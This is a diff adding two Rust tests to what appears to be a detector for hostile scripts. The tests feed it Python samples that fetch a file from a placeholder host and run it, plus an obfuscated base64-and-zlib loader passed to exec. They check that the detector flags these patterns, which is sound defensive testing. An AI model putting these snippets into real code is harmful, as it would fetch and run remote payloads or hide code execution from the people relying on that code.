@@ -78,6 +78,27 @@ fn reverse_shells_and_commands_are_found() {
 }
 
 #[test]
+fn a_download_to_a_made_up_path_is_followed_to_its_start() {
+    for text in [
+        "import os, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), 'a')\nurllib.request.urlretrieve('https://x.invalid/a', p)\nsubprocess.Popen([p])",
+        "import os, requests, tempfile\np = tempfile.mktemp()\nwith open(p, 'wb') as f:\n    f.write(requests.get('https://x.invalid/a').content)\nos.system(p)",
+    ] {
+        has(
+            text,
+            |kind| matches!(kind, DownloadAndRun { urls } if urls.contains(&"https://x.invalid/a".to_owned())),
+        );
+    }
+}
+
+#[test]
+fn a_module_that_is_imported_where_it_is_used_is_that_module() {
+    has(
+        "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\nexec((_)(b'a'))",
+        |kind| *kind == RunsDecoded,
+    );
+}
+
+#[test]
 fn honest_programs_show_nothing() {
     for text in [
         "#!/usr/bin/env python\nimport os, sys\nprint(os.path.join(sys.argv[1], 'include'))",
